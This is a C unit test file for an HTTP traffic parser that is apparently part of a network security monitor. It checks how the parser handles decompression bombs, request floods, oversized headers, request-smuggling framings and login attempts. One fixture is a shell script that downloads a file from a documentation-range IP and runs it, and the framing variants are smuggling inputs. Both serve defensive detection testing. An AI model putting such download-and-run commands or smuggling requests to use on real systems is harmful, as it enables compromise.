/* SPDX-License-Identifier: GPL-2.0-or-later */
/* app/http_hostile_test.c - HTTP as an attacker says it: bombs, floods of requests, heads without
 * end, framings that mean two things; and who logs in by it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>
// clang-format off: cmocka.h needs these before it
#include <cmocka.h>
// clang-format on

#include "app/app_fixture.h"
#include "app/http.h"

static const struct app_http *http(struct fixture *f, unsigned index)
{
	const struct app_event *event = fixture_event(f, APP_HTTP, index);

	assert_non_null(event);
	return &event->http;
}

static const struct app_login *login(struct fixture *f, unsigned index)
{
	const struct app_event *event = fixture_event(f, APP_LOGIN, index);

	assert_non_null(event);
	return &event->login;
}

static void begin(struct fixture *f)
{
	fixture_open(f, &parser_http, 80);
}

/* kind: window bits of zlib. */
static size_t pack(const void *bytes, size_t len, int kind, uint8_t *out, size_t size)
{
	z_stream z = { .next_in = (uint8_t *)(uintptr_t)bytes,
		.avail_in = (unsigned)len,
		.next_out = out,
		.avail_out = (unsigned)size };

	assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, kind, 8, Z_DEFAULT_STRATEGY), Z_OK);
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	deflateEnd(&z);
	return z.total_out;
}

static void answer_with(struct fixture *f, const char *coding, const uint8_t *body, size_t len)
{
	char head[200];

	fixture_say(f, 0, "GET /f HTTP/1.1\r\nHost: h.example\r\n\r\n");
	snprintf(head, sizeof(head),
		"HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\nContent-Length: %zu\r\n\r\n", coding,
		len);
	fixture_say(f, 1, head);
	fixture_feed(f, 1, body, len, 0);
}

static void packed_bodies(void **unused)
{
	static const char script[] = "#!/bin/sh\nwget http://192.0.2.1/a; chmod 777 a; ./a\n";
	static const uint8_t brotli[] = { 0x0b, 0x02, 0x80, 'h', 'e', 'l', 'l', 'o', 0x03 };
	static const struct {
		const char *name;
		int kind;
	} kinds[] = { { "gzip", 31 }, { "deflate", 15 }, { "deflate", -15 }, { "x-gzip", 31 } };
	uint8_t body[512];
	struct fixture f;

	(void)unused;
	for (size_t i = 0; i < 4; i++) {
		const struct app_file *file;
		size_t len = pack(script, sizeof(script) - 1, kinds[i].kind, body, sizeof(body));

		begin(&f);
		answer_with(&f, kinds[i].name, body, len);
		file = &fixture_event(&f, APP_FILE, 0)->file;
		assert_int_equal(file->magic, MAGIC_SHELL_SCRIPT);
		assert_int_equal(file->traits, TRAIT_DOWNLOAD | TRAIT_RUN);
		assert_int_equal(file->size, sizeof(script) - 1);
		assert_int_equal(http(&f, 0)->response_body, sizeof(script) - 1);
		fixture_close(&f);
	}
	begin(&f);
	answer_with(&f, "br", brotli, sizeof(brotli));
	assert_true(fixture_is(fixture_event(&f, APP_FILE, 0)->file.first, "hello"));
	assert_int_equal(fixture_event(&f, APP_FILE, 0)->file.size, 5);
	fixture_close(&f);
}

static void bomb(void **unused)
{
	size_t len = 20U << 20, packed;
	uint8_t *zeros = calloc(1, len), *body = malloc(1U << 16);
	const struct app_file *file;
	struct fixture f;

	(void)unused;
	assert_true(zeros && body);
	packed = pack(zeros, len, 31, body, 1U << 16);
	begin(&f);
	answer_with(&f, "gzip", body, packed);
	file = &fixture_event(&f, APP_FILE, 0)->file;
	assert_true(file->traits & TRAIT_BOMB);
	assert_in_range(file->size, HTTP_UNPACK_MAX / 2, HTTP_UNPACK_MAX + 16384);
	fixture_close(&f);
	free(zeros);
	free(body);
}

static void broken_packing(void **unused)
{
	static const uint8_t noise[] = "\x1f\x8b\x08\x00garbage, not deflate at all";
	static const char *const codings[] = { "gzip", "deflate", "br", "zstd", "identity" };
	struct fixture f;

	(void)unused;
	for (size_t i = 0; i < 5; i++) {
		begin(&f);
		answer_with(&f, codings[i], noise, sizeof(noise) - 1);
		assert_int_equal(fixture_count(&f, APP_FILE), 1);
		assert_int_equal(http(&f, 0)->status, 200);
		fixture_close(&f);
	}
}

static void many_requests(void **unused)
{
	static const char request[] = "GET /%05u HTTP/1.1\r\nHost: h.example\r\n\r\n";
	static const char answer[] = "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx";
	struct fixture f;
	char text[80];

	(void)unused;
	begin(&f);
	for (unsigned i = 0; i < 10000; i++) {
		snprintf(text, sizeof(text), i == 5 ? "HEAD /h HTTP/1.1\r\n\r\n" : request, i);
		fixture_say(&f, 0, text);
	}
	assert_int_equal(fixture_count(&f, APP_HTTP), 10000 - HTTP_QUEUE);
	for (unsigned i = 0; i < 10000; i++)
		fixture_say(
			&f, 1, i == 5 ? "HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\n" : answer);
	assert_int_equal(fixture_count(&f, APP_HTTP), 10000);
	assert_false(http(&f, 9987)->has_response);
	assert_int_equal(http(&f, 9988)->status, 200);
	assert_true(fixture_is(http(&f, 9999)->uri, "/09999"));
	assert_true(http(&f, 9999)->is_pipelined);
	fixture_close(&f);
}

/* Large heads: with twelve of them there is no room for another one's body. */
static void many_large_requests(void **unused)
{
	struct fixture f;
	char pad[8001];

	(void)unused;
	memset(pad, 'p', 8000);
	pad[8000] = 0;
	begin(&f);
	for (unsigned i = 0; i < 30; i++) {
		fixture_say(&f, 0, "POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: 8000\r\nX: ");
		fixture_say(&f, 0, pad);
		fixture_say(&f, 0, "\r\n\r\n");
		fixture_say(&f, 0, pad);
	}
	fixture_end(&f);
	assert_int_equal(fixture_count(&f, APP_HTTP), 30);
	assert_int_equal(fixture_count(&f, APP_FILE), 30);
	assert_int_equal(f.refused, 0);
	assert_int_equal(http(&f, 29)->request_body, 8000);
	fixture_close(&f);
}

static void large_head(void **unused)
{
	struct fixture f;
	size_t len = 64000;
	char *line = malloc(len + 1);

	(void)unused;
	assert_non_null(line);
	memset(line, 'h', len);
	line[len] = 0;
	begin(&f);
	fixture_say(&f, 0, "GET /big HTTP/1.1\r\nHost: h.example\r\nX: ");
	fixture_say(&f, 0, line);
	fixture_say(&f, 0, "\r\n\r\nGET /next HTTP/1.1\r\nHost: h.example\r\n\r\n");
	fixture_end(&f);
	assert_int_equal(fixture_count(&f, APP_HTTP), 2);
	assert_true(fixture_is(http(&f, 0)->host, "h.example"));
	assert_true(fixture_is(http(&f, 1)->uri, "/next"));
	fixture_close(&f);

	/* One without end is given up, on either side. */
	for (unsigned side = 0; side < 2; side++) {
		begin(&f);
		fixture_say(&f, 0, side ? "GET / HTTP/1.1\r\n\r\n" : "GET / HTTP/1.1\r\n");
		if (side)
			fixture_say(&f, 1, "HTTP/1.1 200 OK\r\n");
		for (unsigned i = 0; i < 20; i++) {
			fixture_say(&f, side, line);
			fixture_say(&f, side, "\r\n");
		}
		assert_true(f.parse.is_done || f.parse.is_side_done[side]);
		fixture_end(&f);
		fixture_close(&f);
	}
	free(line);
}

static void two_framings(void **unused)
{
	static const char *const heads[] = {
		"Content-Length: 6\r\nTransfer-Encoding: chunked",
		"Transfer-Encoding: chunked\r\nContent-Length: 6",
		"Transfer-Encoding : identity\r\nTransfer-Encoding: chunked",
		"Transfer-Encoding:\r\n chunked",
		"Content-Length: 5\r\nContent-Length: 50",
		"Content-Length: 5, 50",
		"Transfer-Encoding: xchunked\r\nContent-Length: 5",
	};
	struct fixture f;

	(void)unused;
	for (size_t i = 0; i < 7; i++) {
		begin(&f);
		fixture_say(&f, 0, "POST /a HTTP/1.1\r\nHost: h\r\n");
		fixture_say(&f, 0, heads[i]);
		fixture_say(&f, 0, "\r\n\r\n0\r\n\r\nGET /b HTTP/1.1\r\nHost: h\r\n\r\n");
		fixture_end(&f);
		assert_int_equal(fixture_count(&f, APP_HTTP), 2);
		assert_int_equal(http(&f, 0)->request_body, i < 4 ? 0 : 5);
		assert_true(fixture_is(http(&f, 1)->uri, "/b"));
		fixture_close(&f);
	}
}

static void nonsense(void **unused)
{
	static const char *const says[] = {
		"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffffff\r\n",
		"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nxyz\r\n",
		"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nab",
		"POST / HTTP/1.1\r\nContent-Length: 99999999999999999999999\r\n\r\nabc",
		"POST / HTTP/1.1\r\nContent-Length: -1\r\n\r\nabc\n",
		"GET / HTTP/1.1\r\n:\r\n: x\r\nnothing\r\n\r\n\x01\x02 no HTTP\r\n",
		"GET /a\r\nGET / HTTP/1.1\r\n\r\n",
	};
	struct fixture f;

	(void)unused;
	for (size_t i = 0; i < sizeof(says) / sizeof(says[0]); i++) {
		const struct say say[] = { { 0, says[i], strlen(says[i]) },
			SAY(1, "HTTP/1.1 200 OK\r\nContent-Length: 99999999999999999999\r\n\r\nab"
			       "\x00\x01") };

		begin(&f);
		fixture_play(&f, say, 2, 0);
		fixture_end(&f);
		assert_true(fixture_count(&f, APP_HTTP) >= 1);
		fixture_close(&f);
		fixture_same_however_cut(&parser_http, 80, say, 2);
	}
}

static void exchange(struct fixture *f, const char *request, const char *response)
{
	fixture_say(f, 0, request);
	fixture_say(f, 1, response);
}

#define REFUSAL "HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n"
#define PAGE "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\npage"

static void logins_by_header(void **unused)
{
	struct fixture f;

	(void)unused;
	begin(&f);
	exchange(&f, "GET / HTTP/1.1\r\n\r\n", REFUSAL);
	assert_int_equal(fixture_count(&f, APP_LOGIN), 0);
	exchange(&f, "GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46MTIzNA==\r\n\r\n", REFUSAL);
	assert_int_equal(login(&f, 0)->result, LOGIN_FAILED);
	assert_int_equal(login(&f, 0)->proto, PROTO_HTTP);
	assert_false(login(&f, 0)->is_guessed);
	assert_true(fixture_is(login(&f, 0)->user, "admin"));
	exchange(&f, "GET / HTTP/1.1\r\nAuthorization: Digest username=\"eve\", nonce=1\r\n\r\n",
		REFUSAL);
	assert_true(fixture_is(login(&f, 1)->user, "eve"));
	assert_int_equal(login(&f, 1)->tries, 2);
	/* What succeeds is told once. */
	for (unsigned i = 0; i < 3; i++)
		exchange(&f, "GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46MTIzNA==\r\n\r\n",
			PAGE);
	assert_int_equal(fixture_count(&f, APP_LOGIN), 3);
	assert_int_equal(login(&f, 2)->result, LOGIN_SUCCEEDED);
	/* The first leg of NTLM, a stale nonce, a token: nobody failed. */
	exchange(&f, "GET / HTTP/1.1\r\nAuthorization: NTLM TlRMTVNTUAABAAAA\r\n\r\n", REFUSAL);
	exchange(&f, "GET / HTTP/1.1\r\nAuthorization: Bearer abcdefgh\r\n\r\n", REFUSAL);
	exchange(&f, "GET / HTTP/1.1\r\nAuthorization: Digest username=\"e\"\r\n\r\n",
		"HTTP/1.1 401 No\r\nWWW-Authenticate: Digest stale=true\r\nContent-Length: "
		"0\r\n\r\n");
	assert_int_equal(fixture_count(&f, APP_LOGIN), 3);
	exchange(&f, "GET / HTTP/1.1\r\nAuthorization: NTLM TlRMTVNTUAADAAAA\r\n\r\n", REFUSAL);
	assert_int_equal(login(&f, 3)->result, LOGIN_FAILED);
	fixture_close(&f);
}

#define FORM                                                                                       \
	"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"              \
	"Content-Length: 21\r\n\r\nuser=root&password=ab"

static void logins_by_form(void **unused)
{
	struct fixture f;

	(void)unused;
	begin(&f);
	exchange(&f, FORM, PAGE);
	assert_int_equal(login(&f, 0)->result, LOGIN_UNKNOWN);
	assert_true(login(&f, 0)->is_guessed);
	assert_true(fixture_is(login(&f, 0)->user, "root"));
	exchange(&f, FORM, PAGE);
	assert_int_equal(login(&f, 1)->result, LOGIN_FAILED);
	exchange(&f, FORM, "HTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n");
	assert_int_equal(login(&f, 2)->result, LOGIN_FAILED);
	exchange(&f, FORM, "HTTP/1.1 302 F\r\nLocation: /login?e=1\r\nContent-Length: 0\r\n\r\n");
	assert_int_equal(login(&f, 3)->result, LOGIN_FAILED);
	exchange(&f, FORM, "HTTP/1.1 302 F\r\nLocation: /home\r\nContent-Length: 0\r\n\r\n");
	assert_int_equal(login(&f, 4)->result, LOGIN_SUCCEEDED);
	exchange(&f,
		"POST /s HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
		"Content-Length: 6\r\n\r\nq=word",
		PAGE);
	assert_int_equal(fixture_count(&f, APP_LOGIN), 5);
	exchange(&f,
		"POST /api HTTP/1.1\r\nContent-Type: application/json\r\n"
		"Content-Length: 34\r\n\r\n{\"email\":\"a@b.c\",\"password\":\"hunt\"}",
		REFUSAL);
	assert_true(fixture_is(login(&f, 5)->user, "a@b.c"));
	fixture_close(&f);
}

/* What is no HTTP behind a request that waits takes nothing from that request. */
static void nonsense_behind_a_request(void **unused)
{
	struct fixture f;

	(void)unused;
	begin(&f);
	fixture_say(&f, 0, "GET /first HTTP/1.1\r\nHost: h\r\n\r\n\x01\x02\r\n");
	fixture_say(&f, 1, PAGE);
	fixture_end(&f);
	assert_int_equal(fixture_count(&f, APP_HTTP), 1);
	assert_true(fixture_is(http(&f, 0)->uri, "/first"));
	assert_int_equal(http(&f, 0)->status, 200);
	fixture_close(&f);
}

/* The same behind a request of HTTP/0.9, which is over with its first line. */
static void nonsense_behind_a_bare_request(void **unused)
{
	static const char bytes[] = "GET / HTTP\0\235.1\r\nH0 OK\r\nConAent-Length: 2\r\n\r\nok";
	struct fixture f;

	(void)unused;
	for (size_t cut = 0; cut < sizeof(bytes); cut++) {
		begin(&f);
		fixture_feed(&f, 0, bytes, sizeof(bytes) - 1, cut);
		fixture_end(&f);
		assert_int_equal(fixture_count(&f, APP_HTTP), 1);
		assert_int_equal(http(&f, 0)->version, 9);
		fixture_close(&f);
	}
}

/* Nothing is left when memory is short: what is told is less. */
static void little_memory(void **unused)
{
	struct fixture f;
	uint8_t body[3000];

	(void)unused;
	memset(body, 'b', sizeof(body));
	fixture_open_small(&f, &parser_http, 80, 65536);
	f.memory.make_room = NULL;
	/* Somebody else has it all. */
	uint32_t block = blocks_take(f.memory.blocks, BLOCK_MAX);

	fixture_say(&f, 0, "GET /a HTTP/1.1\r\nHost: h\r\n\r\n");
	fixture_feed(&f, 1, body, sizeof(body), 0);
	fixture_end(&f);
	assert_true(f.refused > 0);
	blocks_give(f.memory.blocks, block);
	fixture_close(&f);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(packed_bodies),
		cmocka_unit_test(bomb),
		cmocka_unit_test(broken_packing),
		cmocka_unit_test(many_requests),
		cmocka_unit_test(many_large_requests),
		cmocka_unit_test(large_head),
		cmocka_unit_test(two_framings),
		cmocka_unit_test(nonsense),
		cmocka_unit_test(logins_by_header),
		cmocka_unit_test(logins_by_form),
		cmocka_unit_test(nonsense_behind_a_request),
		cmocka_unit_test(nonsense_behind_a_bare_request),
		cmocka_unit_test(little_memory),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
